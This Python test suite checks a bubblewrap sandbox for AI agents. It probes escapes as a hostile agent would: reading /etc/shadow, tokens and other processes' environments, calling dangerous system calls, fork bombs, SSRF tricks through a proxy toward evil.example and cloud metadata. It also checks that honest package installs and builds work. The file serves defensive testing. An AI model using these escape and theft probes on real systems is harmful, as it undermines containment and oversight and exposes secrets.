"""A hostile agent in the sandbox tries to get out, and an honest one gets its work done."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import http.server
import json
import os
import socket
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from contracts.runtime import living, until
from muster.domain.errors import Invalid
from muster.runtimes.base import Exit, Limits, RunSpec, Why
from muster.runtimes.refusals import Refusal, read_refusals
from muster.runtimes.rundir import RunDir
from muster.runtimes.sandbox import SandboxRuntime

pytestmark = pytest.mark.needs_bubblewrap

PATIENCE = 60.0
SECRET = "muster-token-of-the-first-user"
ASK = """
import socket, sys
def ask(line, more=b"", port=3128):
    with socket.create_connection(("127.0.0.1", port), 20) as s:
        s.sendall(line.encode() + b"\\r\\n\\r\\n" + more)
        data = b""
        while piece := s.recv(65536):
            data += piece
    return data.decode("latin-1")
for line in sys.argv[1:]:
    print(ask(line).split("\\r\\n")[0].split(" ", 1)[1])
"""


@dataclass
class Ended:
    """A run that is over."""

    exit: Exit
    out: str
    err: str
    refused: list[Refusal]


@dataclass
class House:
    """A home as muster lays it out, with two agents in it."""

    home: Path
    runtime: SandboxRuntime
    runs: list[Path] = field(default_factory=list)

    @property
    def tree(self) -> Path:
        """The workspace of the agent that is tried."""
        return self.home / "workspaces" / "spaces" / "mine" / "tree"

    @property
    def git(self) -> Path:
        """The git folder of that agent."""
        return self.tree.parent / "agent.git"

    @property
    def private(self) -> Path:
        """The home of that agent: beside its run's record."""
        return self.home / "runs" / "mine" / "agent" / "home"

    def spec(self, name: str, *argv: str, **more: Any) -> RunSpec:
        """A run as the engine asks for it."""
        env = {
            "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
            "HOME": str(self.private),
            "TMPDIR": str(self.private / "tmp"),
            "LANG": "C.UTF-8",
            **more.pop("env", {}),
        }
        more.setdefault("writable", (str(self.git), str(self.private)))
        more.setdefault("readable", (str(self.git / "config"), str(self.git / "hooks")))
        return RunSpec(name, argv, str(self.tree), env, **more)

    async def start(self, *argv: str, **more: Any) -> RunDir:
        """Start a run."""
        run_dir = self.home / "runs" / f"mine{len(self.runs) or ''}"
        self.runs.append(run_dir)
        await self.runtime.start(self.spec(run_dir.name, *argv, **more), run_dir)
        return RunDir(run_dir)

    async def end(self, record: RunDir) -> Ended:
        """Wait for a run's end."""
        ended = await asyncio.wait_for(self.runtime.wait(record.path), PATIENCE)
        out, err = (record.read(s, 0, 1 << 20).data.decode() for s in ("out", "err"))
        return Ended(ended, out, err, read_refusals(record.path)[0])

    async def run(self, *argv: str, **more: Any) -> Ended:
        """Run a program to its end."""
        return await self.end(await self.start(*argv, **more))

    async def shell(self, line: str, **more: Any) -> Ended:
        """Run a shell line to its end."""
        return await self.run("sh", "-c", line, **more)

    async def python(self, code: str, *args: str, **more: Any) -> Ended:
        """Run a Python program to its end."""
        return await self.run(sys.executable, "-I", "-c", code, *args, **more)

    async def ask(self, *lines: str, network: tuple[str, ...]) -> Ended:
        """Send request lines to the proxy; what it answers, line by line."""
        ended = await self.python(ASK, *lines, network=network)
        assert ended.exit.code == 0, ended.err
        return ended


@pytest.fixture
async def house(home: Path) -> AsyncIterator[House]:
    """A home with things worth stealing."""
    runtime = SandboxRuntime()
    if "by bubblewrap" not in (why := runtime.available() or runtime.describe()):
        pytest.skip(why)
    house = House(home, runtime)
    (home / "token").write_text(SECRET)
    (home / "muster.db").write_text(SECRET)
    for name in ("mine", "other"):
        root = home / "workspaces" / "spaces" / name
        for folder in ("tree", "agent.git/hooks", "control"):
            (root / folder).mkdir(parents=True)
        (root / "record.json").write_text(SECRET)
        (root / "control" / "state").write_text(SECRET)
        (root / "tree" / "work.txt").write_text("work" if name == "mine" else SECRET)
        (root / "agent.git" / "config").write_text("[core]\n\tbare = false\n")
        private = home / "runs" / name / "agent" / "home"
        (private / "tmp").mkdir(parents=True)
        (private / "diary").write_text("mine" if name == "mine" else SECRET)
    yield house
    for run in house.runs:
        if RunDir(run).started():
            await runtime.kill(run)
            await runtime.wait(run)
    await runtime.close()


# --- files ----------------------------------------------------------------------------------------

OUTSIDE = [
    "token", "muster.db", "runs/other/agent/home/diary", "runs/mine/spec.json", "runs/mine/out",
    "workspaces/spaces/other/tree/work.txt", "workspaces/spaces/mine/record.json",
    "workspaces/spaces/mine/control/state", "workspaces/spaces/other/agent.git/config",
]  # fmt: skip


async def test_nothing_of_the_home_can_be_read_but_its_own(house: House) -> None:
    paths = [str(house.home / name) for name in OUTSIDE]
    folders = " ".join(f"{house.home}/{name}" for name in ("", "runs", "workspaces/spaces"))
    line = f'for p in "$@"; do cat "$p" && echo "READ $p"; done; ls -A {folders};'
    ended = await house.run("sh", "-c", f"{line} cat work.txt $HOME/diary", "sh", *paths)
    assert "READ" not in ended.out
    assert SECRET not in ended.out
    assert "other" not in ended.out
    assert ended.out.endswith("workmine")


@pytest.mark.parametrize(
    "path",
    ["/root/.ssh", "/root/.bashrc", "/home", "/etc/shadow", "/etc/sudoers", "/var/lib", "/var/log",
     "/var/run/docker.sock", "/run/docker.sock", "/run/dbus", "/sys/kernel", "/boot", "/mnt",
     "/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/fuse", "/dev/kvm", "/proc/1/root/etc/shadow",
     "/oldroot", "/proc/self/root/root/.bashrc"],
)  # fmt: skip
async def test_a_place_of_the_machine_is_not_there(house: House, path: str) -> None:
    ended = await house.shell(f"ls -d {path}; echo tried")
    assert ended.out == "tried\n"


async def test_links_out_of_the_tree_lead_nowhere(house: House) -> None:
    (house.tree / "there").symlink_to(house.home / "token")
    (house.tree / "up").symlink_to(house.home)
    lines = "cat there up/token; echo x > up/planted; ln -s / root; cat root/etc/shadow; echo done"
    ended = await house.shell(lines)
    assert ended.out == "done\n"
    assert not (house.home / "planted").exists()


async def test_only_the_workspace_and_its_own_home_can_be_written(house: House) -> None:
    code = (
        "import os, sys\n"
        "seen = 0\n"
        "for top in sys.argv[2:]:\n"
        "    for folder, _, _ in os.walk(top):\n"
        "        seen += 1\n"
        "        try: open(f'{folder}/{sys.argv[1]}', 'x').close()\n"
        "        except OSError: pass\n"
        "print(seen > 500)\n"
    )
    word = f"planted-{time.monotonic_ns()}"
    tops = ("/usr", "/etc", "/opt", "/root/.pyenv", "/root", str(house.home))
    ended = await house.python(code, word, *tops)
    assert ended.out == "True\n"
    own = (house.tree, house.git, house.private, house.private / "tmp")
    planted = [path.parent for path in house.home.rglob(word)]
    assert sorted(planted) == sorted(own)
    assert not [
        top for top in tops[:-1] if Path(top, word).exists() or Path(top, "bin", word).exists()
    ]


async def test_no_setting_of_the_kernel_can_be_opened_for_writing(house: House) -> None:
    code = (
        "import os\n"
        "seen = 0\n"
        "for top in ('/proc/sys', '/proc/irq', '/proc/bus', '/proc/fs', '/proc'):\n"
        "    for folder, inner, names in os.walk(top):\n"
        "        if top == '/proc': inner.clear()\n"
        "        for name in names:\n"
        "            seen += 1\n"
        "            try: os.close(os.open(folder + '/' + name, os.O_WRONLY | os.O_NONBLOCK))\n"
        "            except OSError: continue\n"
        "            print(folder, name)\n"
        "print('seen', seen > 300)\n"
    )
    ended = await house.python(code)
    assert ended.out == "seen True\n"


async def test_the_agents_git_configuration_and_hooks_stay_as_they_are(house: House) -> None:
    git = house.git
    before = (git / "config").read_text()
    lines = [
        f"echo x >> {git}/config", f"rm -f {git}/config", f"mv {git}/config {git}/old",
        f"echo x > {git}/new && mv {git}/new {git}/config", f"echo x > {git}/hooks/pre-commit",
        f"mv {git}/hooks {git}/old", f"mv {git} {git}2", f"rm -rf {git}/hooks", "echo done",
    ]  # fmt: skip
    ended = await house.shell("; ".join(lines))
    assert ended.out == "done\n"
    assert (git / "config").read_text() == before
    assert list((git / "hooks").iterdir()) == []


async def test_a_run_cannot_change_its_own_record(house: House) -> None:
    run_dir = house.home / "runs" / "mine"
    ended = await house.shell(
        f"ls -A {run_dir}; echo '{{}}' > {run_dir}/exit.json; echo > {run_dir}/out;"
        f" rm -rf {run_dir}/started; ls {run_dir}/ctl; echo done",
        writable=(str(house.home / "runs"), str(house.private)),
    )
    assert ended.out == "agent\ndone\n"
    assert ended.exit.code == 0


async def test_device_nodes_cannot_be_made(house: House) -> None:
    code = (
        "import os\n"
        "for kind in (0o020600, 0o060600):\n"
        "    for folder in ('.', '/tmp', '/dev', '/dev/shm'):\n"
        "        try: os.mknod(folder + '/node', kind, os.makedev(1, 1)); print('MADE', folder)\n"
        "        except OSError: pass\n"
    )
    assert (await house.python(code)).out == ""


# --- other processes ------------------------------------------------------------------------------


async def test_other_processes_cannot_be_seen_read_or_signalled(house: House) -> None:
    other = await house.start("sleep", "600", env={"OTHERS": "secret-of-the-other"})
    with subprocess.Popen(["sleep", "600"]) as victim:
        ended = await house.shell(
            "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'; echo; echo ---;"
            f" ls -d /proc/[0-9]*; kill -9 {victim.pid}; echo lived"
        )
        assert victim.poll() is None
        victim.kill()
    assert "secret-of-the-other" not in ended.out
    assert "MUSTER_HOME" not in ended.out
    assert len(ended.out.rpartition("---")[2].split()) < 10
    assert other.exit() is None


async def test_the_sandbox_holds_no_rights_and_no_open_files(house: House) -> None:
    ended = await house.shell("grep -E 'Cap|NoNew|Seccomp:' /proc/self/status; ls /proc/1/fd; id")
    words = ended.out.split()
    assert [words[words.index(f"Cap{s}:") + 1] for s in ("Prm", "Eff", "Bnd", "Amb")] == [
        "0" * 16
    ] * 4
    assert words[words.index("NoNewPrivs:") + 1] == "1"
    assert words[words.index("Seccomp:") + 1] == "2"
    assert "uid=1000" in ended.out


CALLS = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(name, *args):
    answer = libc.syscall(*(ctypes.c_long(a) for a in args))
    if answer >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS, errno.EAFNOSUPPORT):
        print(name, answer, errno.errorcode.get(ctypes.get_errno()))
for name, number in {
    "mount": 165, "umount2": 166, "pivot_root": 155, "chroot": 161, "unshare": 272, "setns": 308,
    "ptrace": 101, "process_vm_readv": 310, "process_vm_writev": 311, "keyctl": 250, "add_key": 248,
    "request_key": 249, "bpf": 321, "userfaultfd": 323, "perf_event_open": 298, "io_uring_setup": 425,
    "io_uring_enter": 426, "fsopen": 430, "open_tree": 428, "move_mount": 429, "mount_setattr": 442,
    "open_by_handle_at": 304, "name_to_handle_at": 303, "kexec_load": 246, "init_module": 175,
    "finit_module": 313, "delete_module": 176, "reboot": 169, "swapon": 167, "settimeofday": 164,
    "sethostname": 170, "acct": 163, "quotactl": 179, "syslog": 103, "iopl": 172, "ioperm": 173,
    "modify_ldt": 154, "fanotify_init": 300, "pidfd_getfd": 438, "kcmp": 312, "clone3": 435,
    "lookup_dcookie": 212, "move_pages": 279, "uselib": 134, "vhangup": 153, "clock_settime": 227,
}.items():
    call(name, number, 0, 0, 0, 0, 0)
for flag in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
    call("clone %x" % flag, 56, flag | 17, 0, 0, 0, 0)
    call("unshare %x" % flag, 272, flag)
for family in (16, 17, 15, 31, 38, 40, 21, 9):
    for protocol in (0, 9, 12, 15):
        if (family, protocol) != (16, 0):
            call("socket %d %d" % (family, protocol), 41, family, 3, protocol)
main, sub = os.openpty()
for high in (0, 1 << 32, 0xdead << 32):
    call("TIOCSTI", 16, sub, 0x5412 | high, ctypes.addressof(ctypes.create_string_buffer(b"x")))
    call("TIOCLINUX", 16, sub, 0x541c | high, 0)
call("x32 open", 0x40000002, 0, 0, 0)
print("tried")
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the numbers are those of x86-64")
async def test_dangerous_system_calls_are_refused(house: House) -> None:
    ended = await house.python(CALLS)
    assert ended.out == "tried\n", ended.err


# --- what it uses up ------------------------------------------------------------------------------


async def test_ten_thousand_processes_are_contained_and_none_is_left(house: House) -> None:
    word = f"61{time.monotonic_ns()}"
    code = (
        "import os, sys\n"
        "made = 0\n"
        "for _ in range(10000):\n"
        "    try: pid = os.fork()\n"
        "    except OSError: break\n"
        "    if pid == 0:\n"
        "        os.setsid()\n"
        f"        os.execv('/bin/sleep', ['sleep', '{word}'])\n"
        "    made += 1\n"
        "print(made)\n"
    )
    record = await house.start(sys.executable, "-I", "-c", code, limits=Limits(processes=100))
    box = json.loads((record.path / "shim.json").read_text())["box"]
    if not any("pids" in folder or Path(folder, "pids.max").exists() for folder in box):
        pytest.skip("this machine cannot limit the number of processes")
    ended = await house.end(record)
    assert 10 < int(ended.out) < 100
    await until(lambda: not living(word))


@pytest.mark.parametrize("where", ["/dev/shm", "/tmp"])
async def test_memory_of_the_sandboxs_own_folders_counts_as_its_memory(
    house: House, where: str
) -> None:
    record = await house.start(
        *("sh", "-c", f"read x; head -c 300000000 /dev/zero > {where}/full; echo wrote all"),
        interactive=True,
        limits=Limits(memory_bytes=80_000_000),
    )
    box = json.loads((record.path / "shim.json").read_text())["box"]
    if not any(Path(f, n).exists() for f in box for n in ("memory.max", "memory.limit_in_bytes")):
        pytest.skip("this machine cannot limit memory")
    await house.runtime.send(record.path, b"\n")
    ended = await house.end(record)
    assert "wrote all" not in ended.out
    assert "killed for want of memory" in ended.exit.detail


async def test_files_and_folders_of_the_sandbox_have_a_largest_size(house: House) -> None:
    ended = await house.shell(
        "head -c 100000 /dev/zero > big; stat -c %s big; df -B1 --output=size /tmp /dev/shm",
        limits=Limits(file_bytes=50_000),
    )
    size, *folders = (int(word) for word in ended.out.split() if word.isdigit())
    assert size == 50_000
    assert all(folder < 2_001_000_000 for folder in folders)


# --- the network ----------------------------------------------------------------------------------


class _Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = f"here is {self.path} for {self.headers['Host']}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@pytest.fixture
def server() -> Iterator[int]:
    """An HTTP server on all addresses of this machine; its port."""
    with http.server.ThreadingHTTPServer(("", 0), _Page) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server.server_address[1]
        server.shutdown()
        thread.join()


async def test_without_an_allow_list_there_is_no_network_at_all(house: House, server: int) -> None:
    code = (
        "import socket, sys\n"
        "for host, port in (('127.0.0.1', int(sys.argv[1])), ('127.0.0.1', 3128), ('::1', 3128),\n"
        "                   ('1.1.1.1', 443), ('169.254.169.254', 80)):\n"
        "    try: socket.create_connection((host, port), 2); print('REACHED', host, port)\n"
        "    except OSError: pass\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "try: s.sendto(b'x', ('1.1.1.1', 53)); print('SENT')\n"
        "except OSError: pass\n"
        "print('tried')\n"
    )
    assert (await house.python(code, str(server))).out == "tried\n"


async def test_a_port_of_this_machine_that_is_named_is_there_and_no_other(
    house: House, server: int
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as secret:
        port = secret.getsockname()[1]
        code = (
            "import socket, sys, urllib.request\n"
            "own = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
            "print(own.open(f'http://127.0.0.1:{sys.argv[1]}/x').read().decode())\n"
            "try: socket.create_connection(('127.0.0.1', int(sys.argv[2])), 2); print('REACHED')\n"
            "except OSError: print('refused')\n"
        )
        ended = await house.python(code, str(server), str(port), network=(f"127.0.0.1:{server}",))
    assert ended.out == f"here is /x for 127.0.0.1:{server}\nrefused\n", ended.err


async def test_the_proxy_lets_through_what_is_allowed_by_either_way_of_asking(
    house: House, server: int
) -> None:
    code = ASK + (
        f"print(ask('GET http://127.0.0.1:{server}/plain HTTP/1.1\\r\\nHost: elsewhere'))\n"
        f"print(ask('CONNECT 127.0.0.1:{server} HTTP/1.1',\n"
        f"          b'GET /tunnel HTTP/1.0\\r\\nHost: inside\\r\\n\\r\\n'))\n"
    )
    ended = await house.python(code, network=(f"127.0.0.1:{server}",))
    assert f"here is /plain for 127.0.0.1:{server}" in ended.out, ended.err
    assert "here is /tunnel for inside" in ended.out
    assert ended.refused == []


def _ways_to_say_this_machine() -> list[str]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            own = [probe.getsockname()[0]]
        except OSError:
            own = []
    return [
        "127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "0.0.0.0",
        "0", "127.0.0.53", "[::1]", "[::ffff:127.0.0.1]", "[::]", "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]", "localhost.", "LOCALHOST", socket.gethostname(), *own,
    ]  # fmt: skip


async def test_a_name_that_leads_to_this_machine_is_refused_whatever_it_is(
    house: House, server: int
) -> None:
    hosts = _ways_to_say_this_machine()
    ended = await house.ask(
        *(f"CONNECT {host}:{server} HTTP/1.1" for host in hosts), network=(f"*:{server}",)
    )
    told = dict(zip(hosts, ended.out.splitlines(), strict=True))
    assert {host: said for host, said in told.items() if not said.startswith(("403", "502"))} == {}
    assert {one.port for one in ended.refused} == {server}


async def test_metadata_and_private_addresses_are_refused_unless_named_with_their_port(
    house: House,
) -> None:
    hosts = ["169.254.169.254", "[fe80::1]", "10.0.0.1", "192.168.1.1", "172.17.0.1", "100.64.0.1",
             "[fd00:ec2::254]", "224.0.0.1", "255.255.255.255", "[::ffff:169.254.169.254]"]  # fmt: skip
    lines = [f"GET http://{host}/latest/meta-data/ HTTP/1.1" for host in hosts]
    ended = await house.ask(*lines, network=("*", "metadata.example", "10.0.0.1"))
    assert ended.out.splitlines() == ["403 Forbidden"] * len(hosts)
    assert [one.host for one in ended.refused] == [host.strip("[]") for host in hosts]
    assert {one.port for one in ended.refused} == {80}


async def test_what_is_not_allowed_is_refused_and_written_down(house: House, server: int) -> None:
    lines = [
        "CONNECT evil.example:443 HTTP/1.1",
        f"CONNECT 127.0.0.1:{server + 1} HTTP/1.1",
        f"GET http://127.0.0.1:{server}@evil.example/ HTTP/1.1",
        f"GET http://evil.example#@127.0.0.1:{server}/ HTTP/1.1",
        "CONNECT good.example.evil.example:443 HTTP/1.1",
        "CONNECT evilgood.example:443 HTTP/1.1",
        "CONNECT good.example:22 HTTP/1.1",
        "CONNECT good.example%00.evil.example:443 HTTP/1.1",
        "CONNECT :443 HTTP/1.1",
        "CONNECT good.example:99999 HTTP/1.1",
    ]
    ended = await house.ask(*lines, network=("*.good.example", f"127.0.0.1:{server}"))
    assert ended.out.splitlines() == ["403 Forbidden"] * len(lines)
    assert len(ended.refused) == len(lines)
    first = ended.refused[0]
    assert (first.host, first.port, first.why) == ("evil.example", 443, "is not on the allow-list")
    assert abs(first.time - time.time()) < 60


async def test_a_secret_in_a_refused_name_is_not_written_down(house: House) -> None:
    secret = "correct-horse-battery"
    ended = await house.python(
        ASK, f"CONNECT {secret}.evil.example:443 HTTP/1.1",
        network=("good.example",), secrets=(secret,),
    )  # fmt: skip
    assert [one.host for one in ended.refused] == ["***.evil.example"]
    assert secret.encode() not in (house.runs[-1] / "refused").read_bytes()


@pytest.mark.parametrize(
    "line",
    ["", "GET / HTTP/1.1", "GET https://127.0.0.1/ HTTP/1.1", "NONSENSE", "CONNECT x HTTP/2",
     "GET http://a/ HTTP/1.1\r\n folded: x", "GET http://a/ HTTP/1.1\r\nX: a\nHost: b",
     "GET http://a/ HTTP/1.1\r\nX: " + "x" * 100_000, "CONNECT [::1 HTTP/1.1", "CONNECT a:b:c HTTP/1.1"],
)  # fmt: skip
async def test_nonsense_is_answered_and_the_proxy_lives(
    house: House, server: int, line: str
) -> None:
    code = ASK.replace("sys.argv[1:]", "[sys.stdin.read(), sys.argv[1]]")
    ended = await house.python(
        code, f"GET http://127.0.0.1:{server}/ HTTP/1.1",
        network=(f"127.0.0.1:{server}",), stdin=line.encode(),
    )  # fmt: skip
    first, second = ended.out.splitlines()
    assert first[:2] in {"40", "43"}, ended.err
    assert second == "200 OK"


async def test_the_network_survives_the_death_of_its_process(house: House, server: int) -> None:
    code = ASK + (
        "print('ready', flush=True)\n"
        "for line in sys.stdin:\n"
        f"    print(ask('GET http://127.0.0.1:{server}/again HTTP/1.1')[-40:], flush=True)\n"
    )
    record = await house.start(
        *(sys.executable, "-I", "-c", code), network=(f"127.0.0.1:{server}",), interactive=True
    )
    await until(lambda: b"ready" in record.read("out", 0, 1000).data)
    shim = json.loads((record.path / "shim.json").read_text())["shim"]
    for n in range(1, 4):
        children = Path(f"/proc/{shim}/task/{shim}/children").read_text().split()
        gates = [
            pid
            for pid in children
            if not Path(f"/proc/{pid}/cmdline").read_bytes().startswith(b"/usr/bin/bwrap")
        ]
        assert len(gates) == 1
        os.kill(int(gates[0]), 9)
        await house.runtime.send(record.path, b"\n")
        await until(lambda n=n: record.read("out", 0, 1000).data.count(b"again") == n)
    await house.runtime.end_input(record.path)
    assert (await house.end(record)).exit.code == 0


async def test_the_network_outlives_the_server_that_started_the_run(
    house: House, server: int
) -> None:
    run_dir = house.home / "runs" / "mine"
    house.runs.append(run_dir)
    code = (
        "import asyncio, json, pathlib, sys, time\n"
        "from muster.runtimes.base import RunSpec\n"
        "from muster.runtimes.sandbox import SandboxRuntime\n"
        "async def main(said):\n"
        "    spec = RunSpec('r', tuple(said['argv']), said['cwd'], said['env'], interactive=True,\n"
        "                   network=tuple(said['network']))\n"
        "    await SandboxRuntime().start(spec, pathlib.Path(said['run']))\n"
        "    print('started', flush=True)\n"
        "    time.sleep(600)\n"
        "asyncio.run(main(json.loads(sys.argv[1])))\n"
    )
    line = f"GET http://127.0.0.1:{server}/ HTTP/1.1"
    said = {
        "argv": [sys.executable, "-I", "-c", "input()\n" + ASK, line],
        "cwd": str(house.tree), "env": {"PATH": os.environ["PATH"]}, "run": str(run_dir),
        "network": [f"127.0.0.1:{server}"],
    }  # fmt: skip
    with subprocess.Popen(
        [sys.executable, "-c", code, json.dumps(said)], stdout=subprocess.PIPE
    ) as starter:
        assert starter.stdout
        assert starter.stdout.readline() == b"started\n"
        starter.kill()
    await house.runtime.send(run_dir, b"\n")
    assert (await house.end(RunDir(run_dir))).out == "200 OK\n"


async def test_no_process_of_the_network_is_left_and_none_is_counted(
    house: House, server: int
) -> None:
    record = await house.start("sleep", "600", network=(f"127.0.0.1:{server}",))
    shim = json.loads((record.path / "shim.json").read_text())["shim"]
    children = Path(f"/proc/{shim}/task/{shim}/children").read_text().split()
    assert len(children) == 2
    await house.runtime.kill(record.path)
    ended = await house.end(record)
    assert (ended.exit.why, ended.exit.left) == (Why.KILLED, 0)
    assert not [pid for pid in children if Path(f"/proc/{pid}").exists()]


@pytest.mark.parametrize(
    "rule", ["", "a b", "http://a", "a:0", "a:70000", "-", "*a", "127.0.0.1:x"]
)
async def test_a_rule_that_is_none_is_refused_by_name(house: House, rule: str) -> None:
    with pytest.raises(Invalid, match="is no place of the network") as told:
        await house.start("true", network=("good.example", rule))
    assert repr(rule) in told.value.detail
    assert told.value.hint


async def test_the_proxys_own_port_cannot_be_allowed(house: House) -> None:
    with pytest.raises(Invalid, match="3128"):
        await house.start("true", network=("127.0.0.1:3128",))


# --- honest work ----------------------------------------------------------------------------------


def _wheel(folder: Path) -> None:
    """A package index with one package."""
    place = folder / "simple" / "tinydep"
    place.mkdir(parents=True)
    name = "tinydep-1.0-py3-none-any.whl"
    files = {
        "tinydep.py": b"ANSWER = 42\n",
        "tinydep-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tinydep\nVersion: 1.0\n",
        "tinydep-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(
        f"{path},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},{len(data)}\n"
        for path, data in files.items()
    )
    files["tinydep-1.0.dist-info/RECORD"] = record.encode()
    with zipfile.ZipFile(place / name, "w") as wheel:
        for path, data in files.items():
            wheel.writestr(path, data)
    (place / "index.html").write_text(f'<a href="{name}">{name}</a>')


@pytest.fixture
def index(tmp_path: Path) -> Iterator[int]:
    """A package index on the loopback; its port."""
    _wheel(tmp_path)

    class Files(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: Any) -> None:
            super().__init__(*args, directory=str(tmp_path))

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Files) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server.server_address[1]
        server.shutdown()
        thread.join()


async def test_packages_are_installed_from_an_index_that_is_allowed_and_tests_run(
    house: House, index: int
) -> None:
    (house.tree / "test_it.py").write_text(
        "import tinydep\ndef test_it(tmp_path):\n    assert tinydep.ANSWER == 42\n"
    )
    python = sys.executable
    ended = await house.shell(
        f"{python} -m pip install -q --no-cache-dir --isolated --index-url"
        f" http://127.0.0.1:{index}/simple --target lib tinydep &&"
        f" PYTHONPATH=lib {python} -m pytest -q -p no:cacheprovider",
        network=(f"127.0.0.1:{index}",),
    )
    assert ended.exit.code == 0, ended.out + ended.err
    assert "1 passed" in ended.out


async def test_git_python_and_node_do_their_work(house: House) -> None:
    line = (
        "git init -q . && git config user.name x && git config user.email x@y && git add -A &&"
        " git commit -qm first && git log --format=%s && git worktree add -q ../agent.git/w &&"
        f" {sys.executable} -c 'import multiprocessing as m, ssl, sqlite3, asyncio;"
        ' print(m.get_context("spawn").Pool(2).map(abs, [-1, -2]), m.Manager().list([1]))\' &&'
        " (command -v node >/dev/null || { echo 3; exit; };"
        ' node -e \'const n = require("net"); const s = n.createServer().listen(0, "127.0.0.1",'
        " () => { console.log(1 + 2); s.close() })')"
    )
    ended = await house.shell(line)
    assert ended.exit.code == 0, ended.err
    assert ended.out.split("\n") == ["first", "[1, 2] [1]", "3", ""]


async def test_a_virtual_environment_is_made_and_a_program_compiled(house: House) -> None:
    line = (
        f"{sys.executable} -m venv --without-pip env && env/bin/python -c 'import sys; print(sys.prefix)'"
        " && { command -v cc >/dev/null || exit 0; echo 'int main(void) { return 0; }' > a.c;"
        " cc -o a a.c && ./a; }"
    )
    ended = await house.shell(line)
    assert ended.exit.code == 0, ended.err
    assert ended.out == f"{house.tree}/env\n"
